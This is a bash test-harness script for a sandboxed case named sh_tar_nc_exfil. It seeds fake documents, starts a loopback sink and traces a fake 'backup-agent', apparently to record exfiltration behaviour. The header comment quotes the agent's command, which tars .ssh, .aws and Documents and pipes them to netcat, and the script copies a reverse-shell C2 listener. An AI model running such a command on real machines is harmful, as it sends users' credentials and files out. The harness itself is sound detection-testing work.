#!/bin/bash
# Case sh_tar_nc_exfil: a bash "backup-agent" (apps/sh_tar_nc_exfil/backup.sh, run as auditor)
# whose `tar czf - .ssh .aws Documents | busybox nc 127.0.0.1 9009` sends the fake keys and
# documents of the home to an UNTRACED loopback sink (sink.py, as auditor). Ends by itself;
# ss/ps are taken after the run.
# Run as root: testdata/harness/sh_tar_nc_exfil.sh
set -euo pipefail
CASE_HOSTNAME=2b8d4f6a1e93
source "$(dirname "$(readlink -f "$0")")/lib.sh"
enter_sandbox sh_tar_nc_exfil
# ---- from here on: PID 1 inside the sandbox ----
install_app sh_tar_nc_exfil sink.py
cp "$HARNESS/apps/sh_reverse_shells/c2_listener.py" /opt/harness/
mkdir -p /home/auditor/Documents
for i in 1 2 3 4; do
  { echo "Contract draft $i"; head -c 300 /dev/urandom | base64 -w 76; } > "/home/auditor/Documents/contract_$i.txt"
done
chown -R auditor:auditor /home/auditor/Documents
as_auditor /usr/bin/python3 /opt/harness/sink.py --port 9009 --count 1 --send '' \
  --ready /mnt/sync/listening > /mnt/sink.out 2>&1 &
SINK=$!
wait_for 10 test -f /mnt/sync/listening
start_inotify -m -r /home/auditor /tmp
trace_app -f -tt -T -yy -s 128 -- ./backup.sh
finish_cli plain_snapshots
wait $SINK || true
cat /mnt/sink.out >&2
